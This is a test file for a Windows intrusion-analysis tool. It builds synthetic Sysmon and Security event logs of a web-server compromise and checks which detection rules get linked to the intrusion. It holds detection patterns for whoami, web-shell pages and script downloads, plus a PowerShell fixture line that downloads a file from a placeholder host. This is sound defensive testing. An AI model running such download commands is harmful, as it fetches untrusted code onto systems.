/**
 * What rules of others match is told with an intrusion where its tree of processes, its log-on session or its file ties it there, and
 * nowhere else: not for the time, not for a number that another process had before, not for another server.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import type { Assessment, Finding } from '../../src/core/assessment.ts';
import { bindRules, parseCollection } from '../../src/rules/index.ts';
import { assessFolder } from '../support/assess-folder.ts';
import { evtxChunk, evtxFile, type SimpleEvent, simpleEvent } from '../support/evtx-writer.ts';

const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'afterpatch-others-'));
afterAll(() => fs.rmSync(folder, { recursive: true, force: true }));

const others = bindRules([
  parseCollection(
    `title: Whoami
id: 11111111-0000-4000-8000-000000000001
logsource: { product: windows, category: process_creation }
detection:
  sel: { Image|endswith: '\\whoami.exe' }
  condition: sel
level: high
---
title: Program in a public folder
id: 11111111-0000-4000-8000-000000000002
logsource: { product: windows, category: file_event }
detection:
  sel: { TargetFilename|contains: '\\Users\\Public\\' }
  condition: sel
---
title: Script that downloads
id: 11111111-0000-4000-8000-000000000003
logsource: { product: windows, category: ps_script }
detection:
  sel: { ScriptBlockText|contains: 'DownloadFile' }
  condition: sel
---
title: Page that was removed
id: 11111111-0000-4000-8000-000000000004
logsource: { product: windows, category: file_delete }
detection:
  sel: { TargetFilename|endswith: '.aspx' }
  condition: sel
---
title: Any program of the web server
id: 11111111-0000-4000-8000-000000000005
logsource: { product: windows, category: process_creation }
detection:
  sel: { ParentImage|endswith: '\\w3wp.exe' }
  condition: sel
`,
    'others.yml',
  ),
]);

const mail01 = 'MAIL01.haven.example';
const at = (time: string): string => `2021-03-05T${time}Z`;
const guid = (number: number): string => `{7f7f7f7f-0000-0000-0000-${String(number).padStart(12, '0')}}`;
const system = 'C:\\Windows\\System32\\';
const w3wp = `${system}inetsrv\\w3wp.exe`;

type Draft = Omit<SimpleEvent, 'id'>;

interface Started {
  readonly time: string;
  readonly image: string;
  readonly own: number;
  readonly parent: number;
  readonly parentImage: string;
  readonly computer?: string;
  readonly more?: Readonly<Record<string, string>>;
}

const sysmon = (eventId: number, time: string, data: Readonly<Record<string, string>>, computer = mail01): Draft => ({
  time: at(time),
  computer,
  eventId,
  channel: 'Microsoft-Windows-Sysmon/Operational',
  provider: 'Microsoft-Windows-Sysmon',
  data,
});

/** Sysmon 1. */
const bySysmon = ({ time, image, own, parent, parentImage, computer, more }: Started): Draft =>
  sysmon(
    1,
    time,
    {
      ProcessGuid: guid(own),
      ProcessId: String(own),
      Image: image,
      CommandLine: path.win32.basename(image),
      User: 'NT AUTHORITY\\SYSTEM',
      LogonId: '0x3e7',
      ParentProcessGuid: guid(parent),
      ParentProcessId: String(parent),
      ParentImage: parentImage,
      ...more,
    },
    computer,
  );

/** Security 4688. */
const bySecurity = ({ time, image, own, parent, parentImage, computer, more }: Started): Draft => ({
  time: at(time),
  computer: computer ?? mail01,
  data: {
    SubjectUserSid: 'S-1-5-18',
    SubjectLogonId: '0x3e7',
    NewProcessId: `0x${own.toString(16)}`,
    NewProcessName: image,
    ProcessId: `0x${parent.toString(16)}`,
    CommandLine: path.win32.basename(image),
    ...(parentImage === '' ? {} : { ParentProcessName: parentImage }),
    ...more,
  },
});

let sets = 0;
async function assessed(
  drafts: readonly Draft[],
  line?: string,
): Promise<{ readonly plain: Assessment; readonly more: Assessment }> {
  const own = path.join(folder, String(sets++));
  fs.mkdirSync(own);
  const events = drafts.map((draft, index) => simpleEvent({ ...draft, id: index + 1 }));
  fs.writeFileSync(path.join(own, 'log.evtx'), evtxFile([evtxChunk(events)]));
  if (line !== undefined) fs.writeFileSync(path.join(own, 'scripts.jsonl'), `${line}\n`);
  return { plain: await assessFolder(own), more: await assessFolder(own, { others }) };
}

const ofOthers = ({ findings }: Assessment): Finding[] => findings.filter(({ rule }) => rule.startsWith('other/'));
/** Titles, counts and bonds of what stands with an intrusion, and what does not. */
function told(assessment: Assessment): { readonly joined: string[]; readonly alone: string[]; readonly by: string[] } {
  const own = ofOthers(assessment);
  const joined = new Set(assessment.intrusions.flatMap(({ findings }) => findings));
  const say = ({ title, count, stage, confidence }: Finding): string =>
    `${title.replace('A rule of others matched: ', '')} ${count} ${stage} ${confidence}`;
  return {
    joined: own.filter(({ id }) => joined.has(id)).map(say),
    alone: own.filter(({ id }) => !joined.has(id)).map(say),
    by: assessment.intrusions.flatMap(({ together }) => together.map(({ by }) => by)),
  };
}

const order: Started = { time: '04:00:00.000', image: `${system}cmd.exe`, own: 100, parent: 50, parentImage: w3wp };
const shell: Started = {
  time: '04:00:01.000',
  image: `${system}WindowsPowerShell\\v1.0\\powershell.exe`,
  own: 200,
  parent: 100,
  parentImage: order.image,
};
const whoami: Started = { time: '04:00:02.000', image: `${system}whoami.exe`, own: 300, parent: 200, parentImage: shell.image };

describe.each([
  ['Sysmon', bySysmon],
  ['Security', bySecurity],
])('by %s', (_name, event) => {
  test('a grandchild of an order is theirs; the answer is what it was', async () => {
    const { plain, more } = await assessed([order, shell, whoami].map(event));
    expect(told(more)).toEqual({
      joined: ['Any program of the web server 1 operated probable', 'Whoami 1 operated probable'],
      alone: [],
      by: ['row', 'process'],
    });
    expect(more.verdict).toEqual(plain.verdict);
    expect(more.intrusions).toHaveLength(1);
    const [finding] = ofOthers(more).filter(({ title }) => title.endsWith('Whoami'));
    expect(finding!.proves).toContain('that the intruder had started, or descends from one');
    expect(finding!.evidence).toHaveLength(1);
  });

  test('in the same seconds under another tree it is not', async () => {
    const other = { time: '04:00:01.500', own: 400, parent: 350, parentImage: 'C:\\Windows\\explorer.exe' };
    const { more } = await assessed(
      [
        order,
        shell,
        { ...order, ...other },
        { ...whoami, own: 500, parent: 400, parentImage: order.image, time: '04:00:02.000' },
      ].map(event),
    );
    expect(told(more)).toEqual({
      joined: ['Any program of the web server 1 operated probable'],
      alone: ['Whoami 1 none possible'],
      by: ['row'],
    });
  });

  test('what a service started is not, though the web server had started the same program', async () => {
    const { more } = await assessed([order, { ...whoami, parent: 60, parentImage: `${system}svchost.exe` }].map(event));
    expect(told(more).alone).toEqual(['Whoami 1 none possible']);
  });

  test('without an intrusion nothing is joined', async () => {
    const { plain, more } = await assessed(
      [{ ...order, parent: 60, parentImage: `${system}services.exe` }, shell, whoami].map(event),
    );
    expect(told(more)).toEqual({ joined: [], alone: ['Whoami 1 none possible'], by: [] });
    expect(more.verdict).toEqual(plain.verdict);
  });

  test('many that are theirs and many that are not: each is counted once', async () => {
    const own = Array.from({ length: 5 }, (_, i) => ({ ...whoami, own: 300 + i, time: `04:00:02.00${i}` }));
    const foreign = Array.from({ length: 30 }, (_, i) => ({
      ...whoami,
      own: 600 + i,
      parent: 60,
      parentImage: 'C:\\Program Files\\Monitor\\agent.exe',
      time: `03:0${Math.floor(i / 10)}:0${i % 10}.000`,
    }));
    const { more } = await assessed([...foreign, order, shell, ...own].map(event));
    const counts = ofOthers(more).filter(({ title }) => title.endsWith('Whoami'));
    // Rows that look alike are kept once: of the five at least the first and the last are known to be theirs.
    expect(counts.map(({ stage }) => stage)).toEqual(['operated', 'none']);
    expect(counts.reduce((sum, { count }) => sum + count, 0)).toBe(35);
    expect(counts[0]!.count).toBeGreaterThanOrEqual(2);
    expect(counts[0]!.timeUtc).toBe('2021-03-05T04:00:02.000Z');
  });
});

describe('numbers that are used again', () => {
  test('another process under the number of theirs', async () => {
    const again = {
      ...shell,
      time: '05:00:00.000',
      image: 'C:\\Backup\\backup.exe',
      parent: 60,
      parentImage: `${system}services.exe`,
    };
    const { more } = await assessed(
      [order, shell, again, { ...whoami, time: '05:00:01.000', parentImage: again.image }].map(bySecurity),
    );
    expect(told(more).alone).toEqual(['Whoami 1 none possible']);
  });

  test('the other process is in no log: the child names another program as its parent', async () => {
    const { more } = await assessed([order, shell, { ...whoami, parentImage: 'C:\\Backup\\backup.exe' }].map(bySecurity));
    expect(told(more).alone).toEqual(['Whoami 1 none possible']);
  });

  test('a child that does not name its parent’s program is theirs for an hour, and no longer', async () => {
    const unnamed = { ...whoami, parentImage: '' };
    const soon = await assessed([order, shell, unnamed].map(bySecurity));
    expect(told(soon.more).joined).toContain('Whoami 1 operated probable');
    const late = await assessed([order, shell, { ...unnamed, time: '06:00:00.000' }].map(bySecurity));
    expect(told(late.more).alone).toEqual(['Whoami 1 none possible']);
  });

  test('the same numbers on another server', async () => {
    const { more } = await assessed([order, shell, { ...whoami, computer: 'MAIL02.haven.example' }].map(bySecurity));
    expect(told(more).alone).toEqual(['Whoami 1 none possible']);
  });

  test('a process that says it is its own parent ends', async () => {
    const { more } = await assessed([order, { ...whoami, parent: 300, parentImage: whoami.image }].map(bySecurity));
    expect(told(more).alone).toEqual(['Whoami 1 none possible']);
  });
});

describe('what a process of theirs did', () => {
  test('a file that it wrote, by Sysmon’s id', async () => {
    const wrote = (process: number): Draft =>
      sysmon(11, '04:00:03.000', {
        ProcessGuid: guid(process),
        Image: process === 50 ? w3wp : shell.image,
        TargetFilename: 'C:\\Users\\Public\\x.exe',
      });
    const theirs = await assessed([bySysmon(order), bySysmon(shell), wrote(200)]);
    expect(told(theirs.more).joined).toContain('Program in a public folder 1 operated probable');
    const another = await assessed([bySysmon(order), bySysmon(shell), wrote(201)]);
    expect(told(another.more).alone).toEqual(['Program in a public folder 1 none possible']);
    // The web server's own process works for everybody.
    const pool = await assessed([bySysmon(order), wrote(50)]);
    expect(told(pool.more).alone).toEqual(['Program in a public folder 1 none possible']);
  });

  test('the parent’s start is in no log: Sysmon names it all the same', async () => {
    const { more } = await assessed([bySysmon(order), bySysmon({ ...whoami, parent: 100, parentImage: order.image })]);
    expect(told(more).joined).toContain('Whoami 1 operated probable');
  });
});

describe('a log-on session', () => {
  const own = { LogonId: '0x8a1f00', LogonGuid: guid(77), User: 'HAVEN\\svc-x' };
  const elsewhere = { ...whoami, parent: 900, parentImage: 'C:\\Windows\\explorer.exe' };
  test('theirs', async () => {
    const { more } = await assessed([bySysmon({ ...order, more: own }), bySysmon({ ...elsewhere, more: own })]);
    expect(told(more)).toEqual({
      joined: ['Any program of the web server 1 operated probable', 'Whoami 1 operated probable'],
      alone: [],
      by: ['row', 'logon'],
    });
  });

  test.each([
    ['another one', { LogonId: '0x8a1f01', LogonGuid: guid(78), User: 'HAVEN\\svc-x' }, own],
    ['that of the computer', { LogonId: '0x3e7', LogonGuid: guid(79), User: 'NT AUTHORITY\\SYSTEM' }, null],
    [
      'that of a pool, which answers everybody',
      { LogonId: '0x77aa', LogonGuid: guid(80), User: 'IIS APPPOOL\\MSExchangeOWAAppPool' },
      null,
    ],
  ] as const)('%s', async (_name, mine, orders) => {
    const { more } = await assessed([bySysmon({ ...order, more: orders ?? mine }), bySysmon({ ...elsewhere, more: mine })]);
    expect(told(more).alone).toEqual(['Whoami 1 none possible']);
  });
});

describe('a file', () => {
  const page = 'C:\\inetpub\\wwwroot\\aspnet_client\\x1.aspx';
  const written = sysmon(11, '03:59:00.000', { ProcessGuid: guid(50), Image: w3wp, TargetFilename: page });
  const removed = (file: string, computer = mail01): Draft =>
    sysmon(23, '09:00:00.000', { ProcessGuid: guid(990), Image: 'C:\\Windows\\explorer.exe', TargetFilename: file }, computer);
  test('theirs, whoever it was', async () => {
    const { more } = await assessed([bySysmon(order), written, removed(page)]);
    expect(told(more).joined).toContain('Page that was removed 1 implanted probable');
    expect(told(more).by).toContain('file');
  });

  test.each([
    ['another one', removed('C:\\inetpub\\wwwroot\\aspnet_client\\x2.aspx')],
    ['of that name on another server', removed(page, 'MAIL02.haven.example')],
  ])('%s', async (_name, event) => {
    const { more } = await assessed([bySysmon(order), written, event]);
    expect(told(more).alone).toEqual(['Page that was removed 1 none possible']);
  });
});

describe('a script', () => {
  /** As evtx_dump writes it: with the number of the process that ran it. */
  const script = (pid: number, time: string): string =>
    JSON.stringify({
      Event: {
        '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-PowerShell', Guid: 'A0C1853B-5C40-4B15-8766-3CF1C58F985A' } },
          EventID: 4104,
          TimeCreated: { '#attributes': { SystemTime: at(time) } },
          EventRecordID: 900,
          Execution: { '#attributes': { ProcessID: pid, ThreadID: 4 } },
          Channel: 'Microsoft-Windows-PowerShell/Operational',
          Computer: mail01,
          Security: { '#attributes': { UserID: 'S-1-5-18' } },
        },
        EventData: { ScriptBlockText: "(New-Object Net.WebClient).DownloadFile('http://192.0.2.7/a')", ScriptBlockId: guid(pid) },
      },
    });

  test.each([
    ['that a PowerShell of theirs ran', 200, '04:00:02.000', true],
    ['of another PowerShell', 201, '04:00:02.000', false],
    ['under the number of theirs two hours later', 200, '06:00:02.000', false],
    ['before theirs began', 200, '03:59:00.000', false],
    ['under the number of what is no PowerShell', 100, '04:00:02.000', false],
  ] as const)('%s', async (_name, pid, time, theirs) => {
    const { more } = await assessed([order, shell].map(bySecurity), script(pid, time));
    expect(told(more)[theirs ? 'joined' : 'alone']).toContain(
      theirs ? 'Script that downloads 1 operated probable' : 'Script that downloads 1 none possible',
    );
  });
});
